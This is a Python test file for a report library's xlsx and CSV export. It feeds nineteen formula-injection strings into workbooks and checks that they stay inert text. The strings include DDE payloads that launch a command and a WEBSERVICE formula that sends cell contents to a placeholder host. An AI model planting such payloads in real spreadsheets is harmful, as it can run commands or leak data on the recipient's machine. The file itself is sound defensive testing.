"""Nineteen texts a spreadsheet would run, through every way out: xlsx lists and reports, CSV; 0 live formulas."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from tests.reports.paper_cases import STAMP
from workbench.reports.lists import list_xlsx
from workbench.reports.pdf import office_program

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://zq7.invalid","点")', "=1+1\t", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", " =1+1", "{=1+1}", '=IMPORTXML("http://zq7.invalid","//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", '=WEBSERVICE("http://zq7.invalid/"&A1)',
)  # fmt: skip
COLUMNS = [{"key": "id", "title": "编号"}, {"key": "what", "title": "内容"}, {"key": "tags", "title": "标签", "kind": "tags"},
           {"key": "state", "title": "状态", "kind": "status"}, {"key": "link", "title": "链接", "kind": "link"}]  # fmt: skip


def made(folder: Path) -> Path:
    rows = [{"id": text, "what": text, "tags": [text, text], "state": {"text": text}, "link": {"text": text, "href": text}}
            for text in FORMULAS]  # fmt: skip
    path = folder / "list.xlsx"
    path.write_bytes(list_xlsx("=1+1", [{**one, "title": f"={one['title']}"} for one in COLUMNS], rows, "=1+1", STAMP))
    return path


def live(path: Path) -> list[str]:
    """Formulas and links in a workbook's own XML, whatever a library makes of it."""
    with zipfile.ZipFile(path) as package:
        parts = {
            name: package.read(name).decode("utf-8", "replace")
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        }
    signs = r"<f[ >/]|<hyperlink|ddeLink|externalLink|TargetMode=\"External\"|<definedName name=\"(?!_xlnm)"
    return [f"{name}: {found}" for name, text in parts.items() for found in re.findall(signs, text)]


def test_nineteen_of_them() -> None:
    assert len(set(FORMULAS)) == 19


def test_a_list_holds_texts_only(tmp_path: Path) -> None:
    path = made(tmp_path)
    cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row if cell.value is not None]
    texts = [cell for cell in cells if any(text.strip() in str(cell.value) for text in FORMULAS)]
    assert len(texts) >= 19 * 4 and {cell.data_type for cell in texts} == {"s"}
    assert not any(cell.hyperlink for cell in cells) and live(path) == []


@pytest.mark.skipif(not office_program(), reason="没有 LibreOffice")
def test_a_spreadsheet_program_recalculates_nothing(tmp_path: Path) -> None:
    """LibreOffice opens the list, recalculates everything and writes it as CSV: each text is still there, and no result."""
    program = office_program()
    assert program
    path = made(tmp_path)
    profile = (tmp_path / "profile").as_uri()
    options = 'csv:"Text - txt - csv (StarCalc)":44,34,76,1,,0,false,true,false,false,false,-1'
    command = [program, f"-env:UserInstallation={profile}", "--headless", "--norestore", "--convert-to", options.replace('"', ""),
               "--outdir", str(tmp_path / "out"), str(path)]  # fmt: skip
    told = subprocess.run(command, check=False, capture_output=True, text=True, timeout=170)
    if "could not be loaded" in told.stderr:
        pytest.skip("本机的 LibreOffice 没有 Calc")
    (out,) = (tmp_path / "out").glob("*.csv")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    column = [row[1].strip() for row in rows]
    assert [text for text in FORMULAS if text.strip() not in column] == []
    assert "2" not in {cell for row in rows for cell in row} and not any(
        "#NAME" in cell or "Err:" in cell for row in rows for cell in row
    )
    shutil.rmtree(tmp_path / "profile", ignore_errors=True)


def test_a_report_holds_texts_only(tmp_path: Path) -> None:
    from tests.reports.paper_cases import HOSTILE  # the room's own texts go along
    from workbench.reports.lists import sheet_name

    names = [sheet_name(text) for text in (*FORMULAS, *HOSTILE)]
    assert not any(name.startswith(("=", "@")) and len(name) > 31 for name in names)
    for number, text in enumerate(FORMULAS):
        path = tmp_path / f"{number}.xlsx"
        path.write_bytes(
            list_xlsx(
                text, COLUMNS, [{"id": text, "what": datetime(2026, 1, 2), "tags": date(2026, 1, 2)}], text, STAMP
            )
        )
        assert live(path) == []
